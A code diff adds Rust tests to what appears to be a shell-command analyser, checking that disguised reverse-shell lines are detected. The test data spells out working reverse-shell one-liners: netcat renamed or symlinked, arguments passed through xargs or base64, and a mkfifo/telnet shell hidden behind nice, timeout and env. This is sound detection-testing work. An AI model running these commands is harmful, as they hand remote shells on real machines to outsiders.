@@ -123,6 +123,66 @@ fn each_limit_is_tested_on_both_sides() {
 }
 
 /// The lines of the real data, by file.
+/// Returns whether a line is read as a shell that another machine gets.
+fn connects_back(line: &str) -> bool {
+    let (command, _) = read(line);
+    command.actions().any(|action| action == "ConnectBack")
+}
+
+#[test]
+fn a_program_is_known_by_the_name_of_its_copy() {
+    for line in [
+        "cp \"$(command -v nc)\" /dev/shm/a1;/dev//shm/./a1 -c sh 192.0.2.7 22",
+        "nice -n 0 cp /bin/nc /tmp/x; /tmp/x -c sh 192.0.2.7 22",
+        "(exec -a worker cp /bin/nc /tmp/x);/tmp/x -c sh 192.0.2.7 22",
+        "printf '%s\\n' /bin/nc /tmp/x | xargs cp;/tmp/x -c sh 192.0.2.7 22",
+        "sh -c 'cp /bin/nc /tmp/x'; /tmp/y/../x -c sh 192.0.2.7 22",
+        "ln -s nc ./x && ./x -c sh 192.0.2.7 22",
+    ] {
+        assert!(connects_back(line), "{line}");
+    }
+    // Another file, and the copy of another program.
+    assert!(!connects_back(
+        "cp /bin/nc /tmp/x; /tmp/x2 -c sh 192.0.2.7 22"
+    ));
+    assert!(!connects_back(
+        "cp /bin/ls /tmp/x; /tmp/x -c sh 192.0.2.7 22"
+    ));
+}
+
+#[test]
+fn arguments_that_come_through_a_pipe_are_read() {
+    for line in [
+        "printf '%s ' -c sh 192.0.2.7 22 | xargs nc",
+        "echo 192.0.2.7 22 | xargs nc -c sh",
+        "echo LWMgc2ggMTkyLjAuMi43IDIy | base64 -d | xargs nice nc",
+    ] {
+        assert!(connects_back(line), "{line}");
+    }
+    assert!(!connects_back("echo 192.0.2.7 22 | xargs nc -z"));
+}
+
+#[test]
+fn what_runs_a_program_hides_nothing_of_what_it_does() {
+    let line = |wrapper: &str| {
+        format!("mkfifo /tmp/p && telnet 192.0.2.7 23 0</tmp/p | {wrapper}sh 1>/tmp/p")
+    };
+    let actions = |line: &str| -> Vec<_> { read(line).0.actions().collect() };
+    let plain = actions(&line(""));
+    assert!(!plain.is_empty());
+    for wrapper in [
+        "nice -n 0 ",
+        "timeout --foreground 1d ",
+        "env timeout -k 3 5 ",
+    ] {
+        let wrapped = actions(&line(wrapper));
+        assert!(
+            plain.iter().all(|action| wrapped.contains(action)),
+            "{wrapper}: {wrapped:?}"
+        );
+    }
+}
+
 fn data() -> Vec<(PathBuf, Vec<String>)> {
     let Ok(folder) = std::env::var("RINGTRUE_DATA") else {
         eprintln!("skipped: RINGTRUE_DATA is not set");
